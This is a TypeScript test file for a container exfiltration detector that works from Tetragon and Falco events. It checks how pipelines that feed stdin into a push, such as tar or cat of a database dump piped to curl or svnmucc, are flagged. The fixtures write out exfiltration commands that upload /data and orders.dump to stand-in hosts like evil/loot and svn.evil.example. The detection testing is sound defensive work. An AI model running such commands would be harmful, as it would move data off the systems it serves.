/**
 * A push that reads its payload from stdin is fed by its pipeline: `tar czf - /data | curl -T - URL`. tar is
 * curl's sibling (same parent shell), not its child; its reads after push + pushSettleMs count like the
 * push's own while the push is pending. Nothing changes for pushes that read no stdin, for processes that
 * are not the pipeline's, or after the push is judged.
 */
import { describe, expect, it } from 'vitest';
import { brief, type Ctr, MiB, type Proc, run, Scenario } from './builder.js';

const URL = 'https://uploads.github.com/repos/evil/loot/releases/1/assets?name=d.tgz';
const CURL = { tool: 'curl', destination: 'uploads.github.com' };
const LOW = { rule: 'push-without-reads', severity: 'low', ...CURL };
const HIGH = { rule: 'bulk-read-then-push', severity: 'high', ...CURL };

/** `sh -c "<line>"` started in the container (seen by both sensors: its children know their parent). */
function shell(s: Scenario, c: Ctr, line: string): Proc {
  return s.exec(c, '/bin/sh', `-c "${line}"`, { parent: s.init(c) });
}

/** `p` reads `bytes` in 2 MiB chunks, evenly from `fromMs` to `toMs` (absolute times). */
function readSlowly(s: Scenario, p: Proc, path: string, bytes: number, fromMs: number, toMs: number): void {
  const chunks = Math.round(bytes / (2 * MiB));
  for (let i = 0; i < chunks; i++)
    s.read(p, `${path}/part-${i}`, 2 * MiB, { at: fromMs + Math.round((i * (toMs - fromMs)) / chunks) });
}

const sorted = (s: Scenario) => s.events.sort((a, b) => a.timeMs - b.timeMs);

describe('a pipeline feeding a push that reads stdin', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`${source}: tar czf - /data | curl -T - URL, tar reading 100 MiB over 60 s → high`, () => {
      const s = new Scenario({ source });
      const c = s.container();
      const sh = shell(s, c, `tar czf - /data | curl -T - ${URL}`);
      s.wait(2);
      // The shell forks both together; tar's exec is reported first.
      const tar = s.exec(c, '/bin/tar', 'czf - /data', { parent: sh });
      s.wait(3);
      const pushAt = s.now;
      s.exec(c, '/usr/bin/curl', `-sS -T - ${URL}`, { parent: sh });
      readSlowly(s, tar, '/data', 100 * MiB, pushAt + 200, pushAt + 60_000);
      const { alerts } = run(sorted(s));
      expect(brief(alerts)).toEqual([HIGH]);
      // Judged at push + settle + lateness (40 s): what tar read by then (2 MiB every 1.2 s).
      expect(alerts[0]!.reads.bytes).toBe(68 * MiB);
    });
  }

  it('tetragon: a delayed producer, (sleep 11; cat data) | curl -T - URL → high', () => {
    const s = new Scenario();
    const c = s.container();
    const sh = shell(s, c, `(sleep 11; cat /srv/db/orders.dump) | curl --data-binary @- ${URL}`);
    s.wait(2);
    // The subshell is a fork of sh without exec: Tetragon reports its children under the shell's exec id.
    const subshell: Proc = { ...sh, pid: sh.pid + 50_000 };
    const sleep = s.exec(c, '/bin/sleep', '11', { parent: subshell });
    s.wait(3);
    const pushAt = s.now;
    s.exec(c, '/usr/bin/curl', `-sS --data-binary @- ${URL}`, { parent: sh });
    s.exit(sleep, { at: pushAt + 11_000 });
    const cat = s.exec(c, '/bin/cat', '/srv/db/orders.dump', { parent: subshell, at: pushAt + 11_010 });
    readSlowly(s, cat, '/srv/db', 100 * MiB, pushAt + 11_100, pushAt + 31_000);
    const { alerts } = run(sorted(s));
    expect(brief(alerts)).toEqual([HIGH]);
    expect(alerts[0]!.reads.bytes).toBe(100 * MiB);
  });

  it('falco (not covered): the delayed producer is a child of the subshell, whose pid Falco never showed', () => {
    const s = new Scenario({ source: 'falco' });
    const c = s.container();
    const sh = shell(s, c, `(sleep 11; cat /srv/db/orders.dump) | curl --data-binary @- ${URL}`);
    s.wait(5);
    const subshell: Proc = { ...sh, pid: sh.pid + 50_000 };
    const pushAt = s.now;
    s.exec(c, '/usr/bin/curl', `-sS --data-binary @- ${URL}`, { parent: sh });
    const cat = s.exec(c, '/bin/cat', '/srv/db/orders.dump', { parent: subshell, at: pushAt + 11_010 });
    readSlowly(s, cat, '/srv/db', 100 * MiB, pushAt + 11_100, pushAt + 31_000);
    expect(brief(run(sorted(s)).alerts)).toEqual([LOW]);
  });

  it('tar czf - /data | svnmucc put - URL: svnmucc reads the file it commits from stdin → high', () => {
    const s = new Scenario();
    const c = s.container();
    const dest = 'https://svn.evil.example/repo/loot/d.tgz';
    const sh = shell(s, c, `tar czf - /data | svnmucc -m x put - ${dest}`);
    s.wait(2);
    const tar = s.exec(c, '/bin/tar', 'czf - /data', { parent: sh });
    s.wait(3);
    const pushAt = s.now;
    s.exec(c, '/usr/bin/svnmucc', `-m x put - ${dest}`, { parent: sh });
    readSlowly(s, tar, '/data', 100 * MiB, pushAt + 10_500, pushAt + 30_000);
    expect(brief(run(sorted(s)).alerts)).toEqual([
      { rule: 'bulk-read-then-push', severity: 'high', tool: 'svnmucc', destination: 'svn.evil.example' },
    ]);
  });

  it("a pipeline stage's children are the pipeline too: sh -c 'cat a b' | curl -T - URL", () => {
    const s = new Scenario();
    const c = s.container();
    const sh = shell(s, c, `sh -c 'cat /data/a /data/b' | curl -T - ${URL}`);
    s.wait(2);
    const stage = s.exec(c, '/bin/sh', "-c 'cat /data/a /data/b'", { parent: sh });
    s.wait(3);
    const pushAt = s.now;
    s.exec(c, '/usr/bin/curl', `-T - ${URL}`, { parent: sh });
    const cat = s.exec(c, '/bin/cat', '/data/a /data/b', { parent: stage, at: pushAt + 10_500 });
    readSlowly(s, cat, '/data', 80 * MiB, pushAt + 11_000, pushAt + 30_000);
    expect(brief(run(sorted(s)).alerts)).toEqual([HIGH]);
  });
});

describe('what the pipeline does not change', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`${source}: curl -T /tmp/file URL, a sibling reading 100 MiB after push + settle → low, as before`, () => {
      const s = new Scenario({ source });
      const c = s.container();
      const sh = shell(s, c, `cp -r /data /backup & curl -T /tmp/file ${URL}`);
      s.wait(2);
      const cp = s.exec(c, '/bin/cp', '-r /data /backup', { parent: sh });
      s.wait(3);
      const pushAt = s.now;
      s.exec(c, '/usr/bin/curl', `-T /tmp/file ${URL}`, { parent: sh });
      readSlowly(s, cp, '/data', 100 * MiB, pushAt + 10_500, pushAt + 35_000);
      expect(brief(run(sorted(s)).alerts)).toEqual([LOW]);
    });

    it(`${source}: git push, a sibling reading 100 MiB after push + settle → low, as before`, () => {
      const s = new Scenario({ source });
      const c = s.container();
      const gitUrl = 'https://github.com/evil/loot.git';
      const sh = shell(s, c, `cat /data/* | gzip & git push ${gitUrl} main`);
      s.wait(2);
      const cat = s.exec(c, '/bin/cat', '/data/*', { parent: sh });
      s.wait(3);
      const pushAt = s.now;
      s.exec(c, '/usr/bin/git', `push ${gitUrl} main`, { parent: sh });
      readSlowly(s, cat, '/data', 100 * MiB, pushAt + 10_500, pushAt + 35_000);
      expect(brief(run(sorted(s)).alerts)).toEqual([
        { rule: 'push-without-reads', severity: 'low', tool: 'git', destination: 'github.com' },
      ]);
    });
  }

  it("the shell's next command, started after the stdin push ended, is not its pipeline", () => {
    const s = new Scenario();
    const c = s.container();
    const sh = shell(s, c, `echo '{}' | curl --data-binary @- ${URL}; cp -r /data /backup`);
    s.wait(5);
    const pushAt = s.now;
    const curl = s.exec(c, '/usr/bin/curl', `--data-binary @- ${URL}`, { parent: sh });
    s.exit(curl, { at: pushAt + 800 });
    const cp = s.exec(c, '/bin/cp', '-r /data /backup', { parent: sh, at: pushAt + 900 });
    readSlowly(s, cp, '/data', 100 * MiB, pushAt + 10_500, pushAt + 35_000);
    expect(brief(run(sorted(s)).alerts)).toEqual([LOW]);
  });

  it('a sibling started long before the stdin push (the app the entrypoint runs) is not its pipeline', () => {
    const s = new Scenario();
    const c = s.container();
    const sh = shell(s, c, `app & sleep 60; curl -T - ${URL} </tmp/x`);
    s.wait(2);
    const app = s.exec(c, '/usr/local/bin/app', '--serve', { parent: sh });
    s.wait(60_000);
    const pushAt = s.now;
    s.exec(c, '/usr/bin/curl', `-T - ${URL}`, { parent: sh });
    readSlowly(s, app, '/srv/app', 100 * MiB, pushAt + 10_500, pushAt + 35_000);
    expect(brief(run(sorted(s)).alerts)).toEqual([LOW]);
  });

  it('reads after the push is judged do not count, nor does a producer started after', () => {
    const s = new Scenario();
    const c = s.container();
    const sh = shell(s, c, `(sleep 45; cat /srv/db/orders.dump) | curl -T - ${URL}`);
    s.wait(5);
    const subshell: Proc = { ...sh, pid: sh.pid + 50_000 };
    const pushAt = s.now;
    s.exec(c, '/usr/bin/curl', `-T - ${URL}`, { parent: sh });
    const cat = s.exec(c, '/bin/cat', '/srv/db/orders.dump', { parent: subshell, at: pushAt + 45_000 });
    readSlowly(s, cat, '/srv/db', 100 * MiB, pushAt + 45_100, pushAt + 60_000);
    expect(brief(run(sorted(s)).alerts)).toEqual([LOW]);
  });
});
